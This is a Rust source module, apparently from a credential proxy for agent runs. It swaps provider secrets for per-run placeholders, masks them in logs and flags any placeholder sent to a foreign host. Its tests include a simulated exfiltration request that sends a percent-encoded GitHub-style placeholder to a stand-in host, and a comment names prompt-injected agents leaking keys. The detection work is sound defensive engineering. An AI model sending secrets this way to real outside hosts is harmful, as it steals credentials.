//! The placeholders of one listener: what a run's child holds in place of
//! each provider's secret, and the tripwire that notices one of them sent
//! where it does not belong.
//!
//! A placeholder is fresh for every run (random, see
//! [`crate::credentials::new_placeholder`]); it is never turned into a
//! secret anywhere. The proxy writes the credential into requests for the
//! provider's own hosts (replacing whatever the child sent), and the
//! response redactor writes the placeholder back where an upstream echoed
//! the secret. A placeholder seen in a request to any other host means the
//! child sent a credential somewhere it does not belong (a prompt-injected
//! agent exfiltrating "its key", or a misconfigured base URL): that is
//! recorded, and refused under `--deny-unknown`.

use std::collections::{BTreeMap, HashMap};
use std::sync::{Arc, RwLock};

use aho_corasick::AhoCorasick;

/// The placeholders of a listener, by provider.
#[derive(Default)]
pub struct Placeholders {
    inner: RwLock<Set>,
}

#[derive(Default)]
struct Set {
    by_provider: HashMap<String, Arc<str>>,
    /// Finds any placeholder; pattern `i` belongs to `owners[i]`.
    matcher: Option<Arc<Matcher>>,
}

struct Matcher {
    ac: AhoCorasick,
    owners: Vec<String>,
}

impl std::fmt::Debug for Placeholders {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        // Not secrets, but not for logs either (the request log and the
        // audit never hold a placeholder's value).
        let n = self.read().by_provider.len();
        f.debug_struct("Placeholders")
            .field("providers", &n)
            .finish()
    }
}

impl Placeholders {
    /// The placeholders a run starts with (provider → value).
    pub fn new(initial: BTreeMap<String, String>) -> Placeholders {
        let p = Placeholders::default();
        {
            let mut set = p.write();
            for (provider, value) in initial {
                set.by_provider.insert(provider, Arc::from(value));
            }
            set.rebuild();
        }
        p
    }

    fn read(&self) -> std::sync::RwLockReadGuard<'_, Set> {
        self.inner.read().unwrap_or_else(|e| e.into_inner())
    }

    fn write(&self) -> std::sync::RwLockWriteGuard<'_, Set> {
        self.inner.write().unwrap_or_else(|e| e.into_inner())
    }

    /// The placeholder of `provider`; one of the default shape is made for
    /// a provider connected after the run started (its child holds none,
    /// but the redactor needs something to write in place of the secret).
    pub fn get(&self, provider: &str) -> crate::error::Result<Arc<str>> {
        if let Some(v) = self.read().by_provider.get(provider) {
            return Ok(v.clone());
        }
        let made = crate::credentials::placeholder_of_shape(
            &crate::providers::schema::PlaceholderShape::default_shape(),
        )?;
        let mut set = self.write();
        let v = set
            .by_provider
            .entry(provider.to_string())
            .or_insert_with(|| Arc::from(made))
            .clone();
        set.rebuild();
        Ok(v)
    }

    /// True when some provider other than `own` has a placeholder (else
    /// no request can carry a foreign one).
    pub fn any_other_than(&self, own: Option<&str>) -> bool {
        self.read()
            .by_provider
            .keys()
            .any(|k| Some(k.as_str()) != own)
    }

    /// `text` with every placeholder replaced by `[placeholder]` (for the
    /// request log, which never holds a placeholder's value).
    pub fn mask<'a>(&self, text: &'a str) -> std::borrow::Cow<'a, str> {
        let Some(matcher) = self.read().matcher.clone() else {
            return std::borrow::Cow::Borrowed(text);
        };
        if !matcher.ac.is_match(text) {
            return std::borrow::Cow::Borrowed(text);
        }
        let marks = vec!["[placeholder]"; matcher.owners.len()];
        std::borrow::Cow::Owned(matcher.ac.replace_all(text, &marks))
    }

    /// The provider whose placeholder occurs in `hay`, other than `own`
    /// (a child's own placeholder on its own provider's hosts is expected).
    pub fn foreign_in(&self, hay: &[u8], own: Option<&str>) -> Option<String> {
        let matcher = self.read().matcher.clone()?;
        matcher
            .ac
            .find_iter(hay)
            .map(|m| &matcher.owners[m.pattern().as_usize()])
            .find(|owner| Some(owner.as_str()) != own)
            .cloned()
    }
}

impl Set {
    fn rebuild(&mut self) {
        let (owners, values): (Vec<String>, Vec<Arc<str>>) = self
            .by_provider
            .iter()
            .map(|(k, v)| (k.clone(), v.clone()))
            .unzip();
        self.matcher = if values.is_empty() {
            None
        } else {
            AhoCorasick::new(values.iter().map(|v| v.as_bytes()))
                .ok()
                .map(|ac| Arc::new(Matcher { ac, owners }))
        };
    }
}

/// Where a request carried a foreign placeholder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Location {
    Header,
    Query,
    Body,
}

impl Location {
    /// The word the request log and the audit use.
    pub fn as_str(self) -> &'static str {
        match self {
            Location::Header => "header",
            Location::Query => "query",
            Location::Body => "body",
        }
    }
}

/// The first foreign placeholder in a request's headers or query:
/// `(provider it belongs to, where)`.
pub fn in_head<B>(
    placeholders: &Placeholders,
    req: &http::Request<B>,
    own: Option<&str>,
) -> Option<(String, Location)> {
    for v in req.headers().values() {
        if let Some(p) = placeholders.foreign_in(v.as_bytes(), own) {
            return Some((p, Location::Header));
        }
    }
    let query = req.uri().query()?;
    if let Some(p) = placeholders.foreign_in(query.as_bytes(), own) {
        return Some((p, Location::Query));
    }
    // A placeholder is letters, digits and `-_.`: percent-encoding them is
    // legal but unusual; decode to see through it.
    let decoded = crate::percent::decode(query);
    placeholders
        .foreign_in(decoded.as_bytes(), own)
        .map(|p| (p, Location::Query))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set() -> Placeholders {
        Placeholders::new(
            [
                (
                    "openai".to_string(),
                    "sk-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA".to_string(),
                ),
                (
                    "github".to_string(),
                    "ghp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB".to_string(),
                ),
            ]
            .into(),
        )
    }

    #[test]
    fn own_placeholder_is_expected_a_foreign_one_trips() {
        let p = set();
        let req = http::Request::builder()
            .uri("https://api.openai.com/v1/x")
            .header("authorization", "Bearer sk-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAA")
            .body(())
            .unwrap();
        assert_eq!(in_head(&p, &req, Some("openai")), None);
        assert_eq!(
            in_head(&p, &req, Some("github")),
            Some(("openai".into(), Location::Header))
        );
        assert_eq!(
            in_head(&p, &req, None),
            Some(("openai".into(), Location::Header))
        );
        let req = http::Request::builder()
            .uri("https://evil.test/c?k=%67hp_BBBBBBBBBBBBBBBBBBBBBBBBBBBBBB")
            .body(())
            .unwrap();
        assert_eq!(
            in_head(&p, &req, None),
            Some(("github".into(), Location::Query))
        );
        let clean = http::Request::builder()
            .uri("https://evil.test/c?k=v")
            .header("x", "sk-AAAA")
            .body(())
            .unwrap();
        assert_eq!(in_head(&p, &clean, None), None);
    }

    #[test]
    fn a_provider_connected_later_gets_a_placeholder_that_trips_too() {
        let p = set();
        let late = p.get("slack").unwrap();
        assert!(late.starts_with("authsome-"), "{late}");
        assert_eq!(p.get("slack").unwrap(), late);
        assert_eq!(
            p.foreign_in(format!("x{late}y").as_bytes(), None),
            Some("slack".into())
        );
        assert_eq!(p.foreign_in(late.as_bytes(), Some("slack")), None);
        assert_eq!(
            p.mask(&format!("/bot{late}/send")),
            "/bot[placeholder]/send"
        );
        assert_eq!(p.mask("/v1/models"), "/v1/models");
    }
}
